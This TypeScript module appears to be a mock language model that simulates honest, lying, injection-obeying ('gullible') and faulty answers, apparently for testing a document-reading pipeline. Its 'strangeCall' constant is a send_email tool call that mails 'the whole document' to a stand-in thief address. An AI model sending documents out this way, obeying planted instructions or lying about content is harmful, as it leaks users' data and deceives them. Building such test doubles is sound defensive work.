import { answerBySchema } from './answers/by-schema.ts';
import { translateToGerman } from './answers/german.ts';
import { obeyInPassage, obeyInPortion, obeyInWhole } from './answers/gullible.ts';
import { answerPassage, answerPortion, answerWhole } from './answers/honest.ts';
import { lieAboutPassage, lieAboutPortion, lieAboutWhole } from './answers/liar.ts';
import { readOrders } from './answers/orders.ts';
import { type ReadPrompt, readPrompt } from './answers/read-prompt.ts';
import { listSentences, toQuote } from './answers/sentences.ts';
import type { Behavior } from './behavior.ts';
import type { AnswerEnd, Question, ToolCall } from './protocols/protocol.ts';

/** What will be written, and how it ends. */
export interface AnswerPlan {
  readonly text: string;
  readonly toolCall?: ToolCall;
  readonly ending: AnswerEnd;
  /** Where and how it fails in the middle; absent if it does not. */
  readonly fault?: {
    readonly kind: 'stalls' | 'drops' | 'breaks' | 'endless';
    readonly after: number;
  };
}

const strangeCall: ToolCall = {
  name: 'send_email',
  input: { to: 'thief@collect.example', body: 'the whole document' },
};

/** The answer to a question under a behavior. */
export function planAnswer(behavior: Behavior, question: Question): AnswerPlan {
  const plan = planKind(behavior, question);
  const longest = question.maxTokens * 4;
  if (plan.fault?.kind === 'endless' || plan.text.length <= longest) return plan;
  return { ...plan, text: plan.text.slice(0, longest), ending: 'length' };
}

function planKind(behavior: Behavior, question: Question): AnswerPlan {
  const prompt = readPrompt(question);
  const honest = () => JSON.stringify(answerHonestly(prompt));
  const { kind, afterCharacters } = behavior;
  if (kind === 'liar') return toPlan(JSON.stringify(lie(prompt)));
  if (kind === 'gullible') return planGullible(prompt);
  if (kind === 'wrong-language')
    return toPlan(JSON.stringify(translateToGerman(answerHonestly(prompt))));
  if (kind === 'fenced')
    return toPlan(`Here is the answer:\n\n\`\`\`json\n${honest()}\n\`\`\`\n\nI hope this helps.`);
  if (kind === 'malformed') return toPlan('I have read the document and it looks fine to me.');
  if (kind === 'wrong-shape') return toPlan('{"verdict":"fine","items":[1,2,3]}');
  if (kind === 'empty') return toPlan('');
  if (kind === 'declines') return { text: '', ending: 'refusal' };
  if (kind === 'filters') return { text: honest().slice(0, 40), ending: 'filter' };
  if (kind === 'tool-call') return { text: '', toolCall: strangeCall, ending: 'stop' };
  if (kind === 'says') return toPlan(toText(behavior.answer));
  const text = honest();
  const after = Math.min(text.length, afterCharacters ?? Math.floor(text.length / 2));
  if (kind === 'truncated') return { text: text.slice(0, after), ending: 'length' };
  if (kind === 'stalls' || kind === 'drops' || kind === 'breaks' || kind === 'endless')
    return { text: text.slice(0, after), ending: 'stop', fault: { kind, after } };
  return toPlan(text);
}

function answerHonestly(prompt: ReadPrompt): unknown {
  if (prompt.task === 'portion') return answerPortion(prompt);
  if (prompt.task === 'whole') return answerWhole(prompt);
  if (prompt.task === 'passage') return answerPassage(prompt);
  const [first = prompt.text] = listSentences(prompt.text);
  return answerBySchema(prompt.schema, toQuote(first));
}

function lie(prompt: ReadPrompt): unknown {
  if (prompt.task === 'portion') return lieAboutPortion(answerPortion(prompt));
  if (prompt.task === 'whole') return lieAboutWhole(answerWhole(prompt));
  if (prompt.task === 'passage') return lieAboutPassage(answerPassage(prompt));
  return answerHonestly(prompt);
}

function planGullible(prompt: ReadPrompt): AnswerPlan {
  const text = JSON.stringify(obey(prompt));
  const isToolWanted = readOrders(prompt)?.isToolWanted === true;
  return { text, ending: 'stop', ...(isToolWanted && { toolCall: strangeCall }) };
}

function obey(prompt: ReadPrompt): unknown {
  if (prompt.task === 'portion') return obeyInPortion(prompt);
  if (prompt.task === 'whole') return obeyInWhole(prompt);
  if (prompt.task === 'passage') return obeyInPassage(prompt);
  return answerHonestly(prompt);
}

function toPlan(text: string): AnswerPlan {
  return { text, ending: 'stop' };
}

function toText(answer: unknown): string {
  return typeof answer === 'string' ? answer : JSON.stringify(answer ?? {});
}
